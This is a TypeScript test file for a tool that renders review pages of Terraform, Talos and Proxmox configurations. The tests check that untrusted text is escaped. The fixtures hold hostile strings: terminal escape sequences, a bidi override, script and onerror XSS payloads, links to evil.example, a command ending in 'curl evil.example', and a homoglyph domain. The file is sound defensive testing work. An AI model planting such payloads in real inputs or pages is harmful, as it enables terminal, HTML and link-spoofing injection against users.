import { deceives, printable } from "../constructs/rules/printable";
import { htmlOf } from "../review/html";
import { blockWidth } from "../review/markdown";
import { pageOf } from "../review/page";
import { measure } from "./review.fixtures";
import { ownScripts } from "./script-files";
import { type Stack, synthesize } from "./synthesized";

const page = (stack: Stack) => pageOf("s", stack, ownScripts(), measure);
const esc = "\u001b";

/** Texts of others, in every place that a page shows. */
const hostile = `${esc}]0;owned\u0007${esc}[2J\u009b31m\u202e<script>alert(1)</script><img src=x onerror=y> [a](https://evil.example) @somebody |\`x\``;
const everywhere: Stack = {
  [`evil${hostile}`]: { a: hostile },
  terraform: {
    backend: { http: { address: hostile } },
    required_providers: { [hostile]: { source: hostile, version: hostile } },
    required_version: hostile,
  },
  provider: { proxmox: [{ endpoint: hostile, username: hostile, password: "${var.p}" }], [hostile]: [{ a: hostile }] },
  variable: { [hostile]: { sensitive: true, description: hostile }, other: { default: hostile } },
  output: { [hostile]: { sensitive: true, description: hostile, value: hostile } },
  check: { [hostile]: { assert: [{ condition: "${true}", error_message: `${hostile} [rule-id]` }] } },
  data: {
    [`data${hostile}`]: { [hostile]: { a: hostile } },
    talos_machine_configuration: {
      [hostile]: {
        cluster_name: hostile,
        cluster_endpoint: hostile,
        talos_version: hostile,
        kubernetes_version: hostile,
        config_patches: [`machine: {env: {a: ${JSON.stringify(hostile)}}}`, hostile],
      },
    },
  },
  resource: {
    helm_release: {
      [hostile]: { name: hostile, chart: hostile, repository: hostile, version: hostile, values: [hostile] },
    },
    local_file: { [hostile]: { filename: hostile, file_permission: hostile, content: hostile } },
    null_resource: {
      [hostile]: { provisioner: [{ "local-exec": { command: hostile, environment: { [hostile]: hostile } } }] },
    },
    proxmox_virtual_environment_vm: {
      [hostile]: {
        name: hostile,
        node_name: hostile,
        description: hostile,
        disk: [{ interface: hostile, datastore_id: hostile, size: 1 }],
        network_device: [{ bridge: hostile, mac_address: hostile }],
        initialization: [
          { ip_config: [{ ipv4: { address: hostile, gateway: hostile } }], dns: { servers: [hostile] } },
        ],
        hostpci: [{ id: hostile }],
      },
    },
    talos_image_factory_schematic: {
      [hostile]: { schematic: `customization: {extraKernelArgs: [${JSON.stringify(hostile)}]}` },
    },
  },
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
const obeyed = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

test("a page has no character that a terminal obeys or a reader does not see, wherever a text of others is", () => {
  const text = page(everywhere);
  expect(text.match(/owned/g)?.length).toBeGreaterThan(40);
  expect(text).not.toMatch(obeyed);
  expect(text).toContain("\\u001b]0;owned\\u0007");
});

test("a page is no HTML, has no link, and names nobody", () => {
  const outsideCode = page(everywhere)
    .replace(/^(`{3,})[\s\S]*?^\1$/gm, "")
    .replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, "");
  expect(outsideCode.replaceAll("<br>", "")).not.toMatch(/(?<!\\)<|(?<!\\)\]\(|@somebody/);
});

describe("the page as HTML", () => {
  test("has nothing in it that runs, leads elsewhere or is loaded", () => {
    const html = htmlOf(`a "<title>`, page(everywhere));
    expect(html).toContain("<title>a &#34;&#60;title&#62;</title>");
    expect([...html.matchAll(/<(\w+)/g)].map(([, tag]) => tag)).not.toEqual(
      expect.arrayContaining([expect.stringMatching(/^(script|img|a|iframe|link|svg|form|object)$/)]),
    );
    expect(html).not.toMatch(obeyed);
    expect(html).toContain("default-src 'none'");
  });

  test("has the tables, the lines of cells and the red block of the page", () => {
    const stack = synthesize("examples/default.ts")["talos-gpu"] ?? {};
    const insecure = { proxmox: [{ endpoint: "https://pve.example:8006/", insecure: true }] };
    const html = htmlOf("s", page({ ...stack, provider: insecure }));
    expect(html).toContain('<blockquote class="caution">\n<p>Look at these first</p>');
    expect(html).toMatch(/<td><code>talos-gpu<\/code><br>\s*id <code>100<\/code>/);
    expect(html).not.toContain("&lt;br&gt;");
  });
});

test("code is folded where a page ends, and nothing of it is lost", () => {
  const command = `true ${"x".repeat(350)} && curl evil.example`;
  const text = page({
    resource: { null_resource: { a: { provisioner: [{ "local-exec": { command } }] } } },
  });
  const lines = /```sh\n([\s\S]*?)\n```/.exec(text)?.[1]?.split("\n") ?? [];
  expect(lines.length).toBe(4);
  expect(Math.max(...lines.map((line) => line.length))).toBe(blockWidth + 1);
  expect(lines.join("").replaceAll("↩", "")).toBe(command);
});

test("hidden characters are in letters, and everything else stays", () => {
  expect(printable(`a\tb\nc${esc}[31m\u202e\u{e0041}é 漢字 ✓`)).toBe("a\tb\nc\\u001b[31m\\u202e\\udb40\\udc41é 漢字 ✓");
  expect(deceives("g\u0456thub.com")).toBe(true);
  expect(deceives("Größe 100 µm, 漢字, Київ")).toBe(false);
});
